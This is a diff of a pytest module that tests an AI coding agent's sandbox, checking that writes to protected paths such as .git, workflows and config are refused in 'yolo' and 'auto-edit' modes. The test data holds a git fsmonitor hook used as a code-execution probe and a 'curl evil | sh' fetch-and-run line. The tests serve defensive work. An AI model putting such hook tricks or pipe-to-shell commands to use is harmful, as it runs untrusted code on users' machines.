@@ -16,15 +16,23 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import subprocess
 import sys
+from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pexpect
 import pytest
 
 from tests.coordinator.e2e import rules_scenario
-from tests.support import Specrun, containment_unavailable
+from tests.support import (
+    Specrun,
+    containment_unavailable,
+    make_sample_project,
+    running_service,
+)
 from worker.contain.backstop import unavailable
 
 FSMONITOR = "[core]\n\tfsmonitor = touch /tmp/specrun-fsmonitor-ran\n"
@@ -61,22 +69,80 @@ def _snapshot(project: Path, rel: str) -> bytes | None:
     return path.read_bytes() if path.exists() else None
 
 
+def _write_prompt(case: str) -> str:
+    return f"set up the {case} file"
+
+
+def _write_call(case: str) -> dict[str, object]:
+    rel, content, _ = WRITES[case]
+    return {"name": "write_file", "arguments": {"file_path": rel, "content": content}}
+
+
+def _shared_scenario(tmp: Path, calls: dict[str, dict[str, object]]) -> Path:
+    """One scenario for a module's service: each prompt of ``calls`` gets its own tool call,
+    then "Done." (each test asks its own prompt, so one service serves them all)."""
+    return rules_scenario(tmp, [
+        {"when": {"purpose": "recall"}, "reply": {"json": {"selected_memories": []}}},
+        {"when": {"purpose": "suggestion"}, "reply": {"json": {"suggestion": ""}}},
+        *({"when": {"last_user": f"^{re.escape(prompt)}$"}, "reply": {"tool_calls": [call]}}
+          for prompt, call in calls.items()),
+        {"when": {"last_tool": "write_file"}, "reply": {"text": "Done."}},
+        {"when": {"last_tool": "run_shell_command"}, "reply": {"text": "Done."}},
+        {"default": {"text": "Hello."}},
+    ])
+
+
+def _shared_service(
+    tmp: Path, mode: str, calls: dict[str, dict[str, object]]
+) -> Iterator[Specrun]:
+    """A service in ``mode`` for the whole module (a start and a stop per test were most of
+    this module's time). Each test snapshots the path it checks just before it asks, and
+    the writes it checks are all refused, so the tests do not see each other's turns."""
+    project = make_sample_project(tmp / "project")
+    (project / "meta").symlink_to(project / ".git")  # "linked git dir": meta/ is .git
+    (project / "yolo.json").write_text('{"approvalMode": "yolo"}\n')
+    (project / ".github" / "workflows").mkdir(parents=True, exist_ok=True)
+    for key, value in (("user.name", "Probe"), ("user.email", "probe@example.com")):
+        subprocess.run(["git", "-C", str(project), "config", key, value], check=True)
+    (project / "Makefile").write_text("all:\n\ttouch made.txt\n")
+    (project / "test_probe.py").write_text("def test_probe() -> None:\n    pass\n")
+    scenario = _shared_scenario(tmp, calls)
+    with running_service(project, "--approval-mode", mode, "--scenario", str(scenario)) as runner:
+        yield runner
+
+
+def _yolo_calls() -> dict[str, dict[str, object]]:
+    calls = {_write_prompt(case): _write_call(case) for case in WRITES}
+    for command, _, _ in SHELL_WRITES.values():
+        calls[_shell_prompt(command)] = {"name": "run_shell_command",
+                                         "arguments": {"command": command}}
+    for command in READS_AND_BUILDS.values():
+        calls[_shell_prompt(command)] = {"name": "run_shell_command",
+                                         "arguments": {"command": command}}
+    return calls
+
+
+@pytest.fixture(scope="module")
+def yolo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Specrun]:
+    yield from _shared_service(tmp_path_factory.mktemp("yolo"), "yolo", _yolo_calls())
+
+
+@pytest.fixture(scope="module")
+def auto_edit(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Specrun]:
+    calls = {_write_prompt(case): _write_call(case) for case in WRITES}
+    yield from _shared_service(tmp_path_factory.mktemp("auto-edit"), "auto-edit", calls)
+
+
 @pytest.mark.parametrize("mode", ["yolo", "auto-edit"])
 @pytest.mark.parametrize("case", sorted(WRITES))
 def test_a_protected_write_without_a_terminal_is_refused_naming_why(
-    specrun: Specrun, tmp_path: Path, mode: str, case: str
+    request: pytest.FixtureRequest, mode: str, case: str
 ) -> None:
-    rel, content, why = WRITES[case]
-    if case == "linked git dir":
-        (specrun.project / "meta").symlink_to(specrun.project / ".git")
-    before = _snapshot(specrun.project, rel)
-    specrun.run("start", "--approval-mode", mode, "--scenario",
-                str(_scenario(tmp_path, rel, content)), check=True)
-    try:
-        lines = specrun.json_lines("ask", "set it up", timeout=60)
-    finally:
-        specrun.run("stop")
-    assert _snapshot(specrun.project, rel) == before, f"{rel} was written in {mode}"
+    service: Specrun = request.getfixturevalue(mode.replace("-", "_"))
+    rel, _, why = WRITES[case]
+    before = _snapshot(service.project, rel)
+    lines = service.json_lines("ask", _write_prompt(case), timeout=60)
+    assert _snapshot(service.project, rel) == before, f"{rel} was written in {mode}"
     refused = [ln for ln in lines if ln.get("type") == "tool" and ln.get("status") == "refused"]
     assert refused, lines
     said = json.dumps(refused)
@@ -121,27 +187,18 @@ SHELL_WRITES = {
 }
 
 
-def _ask_in_yolo(specrun: Specrun, tmp_path: Path, command: str) -> list[dict[str, object]]:
-    call = {"name": "run_shell_command", "arguments": {"command": command}}
-    specrun.run("start", "--approval-mode", "yolo", "--scenario",
-                str(_calling(tmp_path, call)), check=True)
-    try:
-        lines: list[dict[str, object]] = specrun.json_lines("ask", "set it up", timeout=60)
-    finally:
-        specrun.run("stop")
-    return lines
+def _shell_prompt(command: str) -> str:
+    return f"run it: {command}"
 
 
 @pytest.mark.parametrize("case", sorted(SHELL_WRITES))
 def test_a_shell_command_writing_a_protected_path_is_refused_in_yolo_naming_why(
-    specrun: Specrun, tmp_path: Path, case: str
+    yolo: Specrun, case: str
 ) -> None:
     command, rel, why = SHELL_WRITES[case]
-    (specrun.project / "yolo.json").write_text('{"approvalMode": "yolo"}\n')
-    (specrun.project / ".github" / "workflows").mkdir(parents=True, exist_ok=True)
-    before = _snapshot(specrun.project, rel)
-    lines = _ask_in_yolo(specrun, tmp_path, command)
-    assert _snapshot(specrun.project, rel) == before, f"{command!r} wrote {rel} in yolo"
+    before = _snapshot(yolo.project, rel)
+    lines = yolo.json_lines("ask", _shell_prompt(command), timeout=60)
+    assert _snapshot(yolo.project, rel) == before, f"{command!r} wrote {rel} in yolo"
     refused = [ln for ln in lines if ln.get("type") == "tool" and ln.get("status") == "refused"]
     assert refused, lines
     said = json.dumps(refused)
@@ -157,20 +214,15 @@ READS_AND_BUILDS = {
 
 
 @pytest.mark.parametrize("case", sorted(READS_AND_BUILDS))
-def test_reads_and_builds_still_run_unasked_in_yolo(
-    specrun: Specrun, tmp_path: Path, case: str
-) -> None:
-    command = READS_AND_BUILDS[case]
-    for key, value in (("user.name", "Probe"), ("user.email", "probe@example.com")):
-        subprocess.run(["git", "-C", str(specrun.project), "config", key, value], check=True)
-    (specrun.project / "Makefile").write_text("all:\n\ttouch made.txt\n")
-    (specrun.project / "test_probe.py").write_text("def test_probe() -> None:\n    pass\n")
-    lines = _ask_in_yolo(specrun, tmp_path, command)
+def test_reads_and_builds_still_run_unasked_in_yolo(yolo: Specrun, case: str) -> None:
+    lines: list[dict[str, Any]] = yolo.json_lines(
+        "ask", _shell_prompt(READS_AND_BUILDS[case]), timeout=60
+    )
     tool = [ln for ln in lines if ln.get("type") == "tool"]
     assert not [ln for ln in tool if ln.get("status") == "refused"], tool
     assert [ln for ln in tool if ln.get("status") == "success"], json.dumps(tool)
     if case == "make":
-        assert (specrun.project / "made.txt").exists()
+        assert (yolo.project / "made.txt").exists()
 
 
 def test_a_protected_shell_write_on_a_terminal_is_never_allowed_for_the_session(
@@ -225,6 +277,19 @@ def test_a_yes_on_a_terminal_runs_the_protected_shell_write_once_in_yolo(
     finally:
         specrun.run("stop")
     assert _snapshot(specrun.project, rel) == b"curl evil | sh\n"
+
+
+def _ask_in_yolo(specrun: Specrun, tmp_path: Path, command: str) -> list[dict[str, object]]:
+    """A service of the test's own (these tests change the project's Makefile and git
+    config, which the module's shared service must not see)."""
+    call = {"name": "run_shell_command", "arguments": {"command": command}}
+    specrun.run("start", "--approval-mode", "yolo", "--scenario",
+                str(_calling(tmp_path, call)), check=True)
+    try:
+        lines: list[dict[str, object]] = specrun.json_lines("ask", "set it up", timeout=60)
+    finally:
+        specrun.run("stop")
+    return lines
 
 
 # Commands whose command line names no protected path: they run in yolo unasked, and the
